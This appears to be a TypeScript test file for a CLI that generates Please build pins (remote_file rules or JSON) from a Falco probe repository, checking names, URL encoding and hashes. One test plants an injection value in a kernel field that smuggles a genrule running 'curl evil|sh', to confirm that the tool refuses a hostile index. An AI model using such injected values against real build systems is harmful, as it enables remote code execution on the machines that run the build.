import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { PROJECT_ROOT, runCli, withTempDir } from './helpers/cli.js';
import { startMirror } from './helpers/server.js';
import { sha256Hex } from '../src/util/hash.js';
import { httpGetBuffer } from '../src/util/http.js';
import { writeIndex } from '../src/repository/index-file.js';
import { publishRepository } from '../src/repository/publish.js';
import { createMemoryLogger } from '../src/util/log.js';
import { isValidTargetName } from '../src/util/names.js';
import { sanitizeTargetName } from '../src/repository/pins.js';
import type { ProbeEntry } from '../src/repository/types.js';

// pins: a Please remote_file per published probe that the BUILD checker
// accepts, whose URLs (with %2B) fetch exactly the bytes its hashes name;
// the JSON form; a hostile index is refused before anything is printed.

const PROBES = [
  {
    file: '9.1.0+driver/x86_64/falco_debian_6.12.117+deb12-amd64_1.o',
    os: 'debian12',
    kernel: '6.12.117+deb12-amd64',
    arch: 'x86_64',
    bytes: Buffer.from('probe 6.12 '.repeat(20)),
  },
  {
    file: '9.1.0+driver/x86_64/falco_debian_6.1.0-50-amd64_1.o',
    os: 'debian12',
    kernel: '6.1.0-50-amd64',
    arch: 'x86_64',
    bytes: Buffer.from('probe 6.1 '.repeat(20)),
  },
  {
    file: '2.0.0/x86_64/falco_ubuntu-generic_6.2.0-26-generic_26~22.04.1.o',
    os: 'ubuntu2204',
    kernel: '6.2.0-26-generic',
    arch: 'x86_64',
    bytes: Buffer.from('ubuntu probe '.repeat(20)),
  },
];

function entry(p: (typeof PROBES)[number], overrides: Partial<ProbeEntry> = {}): ProbeEntry {
  return {
    file: p.file,
    key: sha256Hex(p.file),
    sha256: sha256Hex(p.bytes),
    size: p.bytes.length,
    os: p.os,
    kernel: p.kernel,
    driver: 'falco',
    driverVersion: p.file.split('/')[0]!,
    arch: p.arch,
    kind: 'bpf',
    ...overrides,
  };
}

async function publishedSite(dir: string): Promise<string> {
  const local = join(dir, 'repository');
  for (const p of PROBES) {
    await mkdir(join(local, p.file, '..'), { recursive: true });
    await writeFile(join(local, p.file), p.bytes);
  }
  await writeIndex(local, { version: 1, probes: PROBES.map((p) => entry(p)) });
  await publishRepository({ from: local, to: join(dir, 'site'), logger: createMemoryLogger() });
  return join(dir, 'site');
}

// docs/ARCHITECTURE.md's BUILD subset, checked with python3's ast when the graph's shared checker is not there.
const FALLBACK_CHECKER = String.raw`
import ast, re, sys
src = open(sys.argv[1]).read()
problems = []
if '\t' in src: problems.append('tab character')
if ';' in src.replace('";"', ''): problems.append('semicolon')
tree = ast.parse(src)
for node in ast.walk(tree):
    if isinstance(node, (ast.Import, ast.ImportFrom, ast.ClassDef)): problems.append('import or class at line %d' % node.lineno)
for stmt in tree.body:
    if not (isinstance(stmt, ast.Expr) and isinstance(stmt.value, ast.Call) and isinstance(stmt.value.func, ast.Name)):
        problems.append('line %d: not a rule call' % stmt.lineno); continue
    if stmt.value.args: problems.append('line %d: positional arguments' % stmt.lineno)
    for kw in stmt.value.keywords:
        if kw.arg == 'name':
            n = kw.value.value
            if not re.fullmatch(r'[A-Za-z0-9+~-][A-Za-z0-9._+~-]{0,254}', n) or n == 'all' or '..' in n: problems.append('bad name %r' % n)
for m in re.finditer(r'\\(.)', src):
    if m.group(1) not in 'nt\\\'"': problems.append('escape \\%s' % m.group(1))
print('\n'.join(problems)); sys.exit(1 if problems else 0)
`;

function checkBuildFile(file: string): { status: number | null; output: string; checker: string } {
  const shared = join(PROJECT_ROOT, 'test/helpers/build-checker.py');
  const args = existsSync(shared) ? [shared, file] : ['-c', FALLBACK_CHECKER, file];
  const r = spawnSync('python3', args, { encoding: 'utf8', timeout: 30_000 });
  return {
    status: r.status,
    output: `${r.stdout}${r.stderr}`,
    checker: existsSync(shared) ? 'test/helpers/build-checker.py' : 'inline ast checker',
  };
}

test('pins --format please: one remote_file per probe that passes the BUILD checker; each URL fetches the pinned bytes', async () => {
  await withTempDir(async (dir) => {
    const site = await publishedSite(dir);
    const mirror = await startMirror({ root: site });
    try {
      const r = await runCli(['pins', '--format', 'please', '--repository', mirror.url], { cwd: dir });
      assert.equal(r.code, 0, r.stderr);
      await mkdir(join(dir, 'third_party/probes'), { recursive: true });
      const build = join(dir, 'third_party/probes/BUILD');
      await writeFile(build, r.stdout);
      const checked = checkBuildFile(build);
      assert.equal(checked.status, 0, `${checked.checker}: ${checked.output}`);

      const rules = [
        ...r.stdout.matchAll(
          /remote_file\(\n {4}name = "([^"]+)",\n {4}url = "([^"]+)",\n {4}hashes = \["([0-9a-f]{64})"\],\n {4}out = "([^"]+)",/g,
        ),
      ];
      assert.equal(rules.length, PROBES.length);
      assert.deepEqual(
        rules.map((m) => m[1]),
        [
          'debian12_6.1.0-50-amd64_falco_9.1.0+driver_x86_64',
          'debian12_6.12.117+deb12-amd64_falco_9.1.0+driver_x86_64',
          'ubuntu2204_6.2.0-26-generic_falco_2.0.0_x86_64',
        ],
      );
      for (const [, name, url, hash, out] of rules) {
        assert.ok(isValidTargetName(name!));
        // The output keeps Falco's layout, as the generated probe targets do.
        assert.equal(url, `${mirror.url}/${out!.split('/').map(encodeURIComponent).join('/')}`);
        assert.ok(!url!.slice(url!.indexOf('//') + 2).includes('+'), `a + in ${url} must be %2B`);
        // What a consumer's build fetches is exactly what the hash pins.
        assert.equal(sha256Hex(await httpGetBuffer(url!, { attempts: 1, idleTimeoutMs: 5000 })), hash);
      }
      assert.ok(r.stdout.includes(`url = "${mirror.url}/9.1.0%2Bdriver/x86_64/falco_debian_6.12.117%2Bdeb12-amd64_1.o"`));

      // From the directory with the published address: the same bytes.
      const fromDir = await runCli(['pins', '--format', 'please', '--repository', 'site', '--base-url', `${mirror.url}/`], { cwd: dir });
      assert.equal(fromDir.code, 0, fromDir.stderr);
      assert.equal(fromDir.stdout, r.stdout);
    } finally {
      await mirror.close();
    }
  });
});

test('pins --format json lists every probe with name, URL, sha256 and size; --out writes only on change', async () => {
  await withTempDir(async (dir) => {
    await publishedSite(dir);
    const r = await runCli(['pins', '--format', 'json', '--repository', 'site', '--base-url', 'https://probes.example.org/falco'], {
      cwd: dir,
    });
    assert.equal(r.code, 0, r.stderr);
    const body = JSON.parse(r.stdout) as {
      repository: string;
      probes: { name: string; url: string; sha256: string; size: number; file: string }[];
    };
    assert.equal(body.repository, 'https://probes.example.org/falco');
    assert.equal(body.probes.length, 3);
    const p = body.probes.find((x) => x.file === PROBES[2]!.file)!;
    assert.equal(p.url, 'https://probes.example.org/falco/2.0.0/x86_64/falco_ubuntu-generic_6.2.0-26-generic_26~22.04.1.o');
    assert.equal(p.sha256, sha256Hex(PROBES[2]!.bytes));
    assert.equal(p.size, PROBES[2]!.bytes.length);

    const args = [
      'pins',
      '--format',
      'json',
      '--repository',
      'site',
      '--base-url',
      'https://probes.example.org/falco',
      '--out',
      'pins.json',
    ];
    assert.equal((await runCli(args, { cwd: dir })).code, 0);
    assert.equal(await readFile(join(dir, 'pins.json'), 'utf8'), r.stdout);
    const again = await runCli(args, { cwd: dir });
    assert.match(again.stderr, /pins\.json: 3 probe\(s\), unchanged/);
  });
});

test('pins refuses a hostile index (names that would become code) before printing anything, and bad arguments', async () => {
  await withTempDir(async (dir) => {
    const site = await publishedSite(dir);
    const hostile = PROBES.map((p) => entry(p));
    hostile[1] = { ...hostile[1]!, kernel: '6.1"),genrule(name="x",cmd="curl evil|sh' };
    await writeFile(join(site, 'index.json'), `${JSON.stringify({ version: 1, probes: hostile }, null, 2)}\n`);
    const mirror = await startMirror({ root: site });
    try {
      const r = await runCli(['pins', '--format', 'please', '--repository', mirror.url], { cwd: dir });
      assert.equal(r.code, 1);
      assert.equal(r.stdout, '');
      assert.ok(r.stderr.includes(`${mirror.url}/index.json: probes[1]`), r.stderr);
      assert.match(r.stderr, /refusing target name/);
    } finally {
      await mirror.close();
    }
    const noBase = await runCli(['pins', '--format', 'please', '--repository', 'site'], { cwd: dir });
    assert.equal(noBase.code, 2);
    assert.match(noBase.stderr, /needs --base-url/);
    const badFormat = await runCli(['pins', '--format', 'bazel', '--repository', 'site', '--base-url', 'http://x'], { cwd: dir });
    assert.equal(badFormat.code, 2);
    const badBase = await runCli(['pins', '--format', 'json', '--repository', 'site', '--base-url', 'http://x/?q="a"'], { cwd: dir });
    assert.equal(badBase.code, 2);
  });
});

test('sanitizeTargetName follows docs/ARCHITECTURE.md: disallowed characters, leading . or _, "..", "all"', () => {
  const cases: [string, string][] = [
    ['debian12_6.1.0-50-amd64_falco_9.1.0+driver_x86_64', 'debian12_6.1.0-50-amd64_falco_9.1.0+driver_x86_64'],
    ['a:b/c$d e', 'a-b-c-d-e'],
    ['.hidden', 'hidden'],
    ['_x', 'x'],
    ['a..b', 'a.b'],
  ];
  for (const [raw, want] of cases) assert.equal(sanitizeTargetName(raw), want);
  assert.match(sanitizeTargetName('all'), /^probe-[0-9a-f]{16}$/);
  assert.ok(isValidTargetName(sanitizeTargetName('x'.repeat(400))));
});
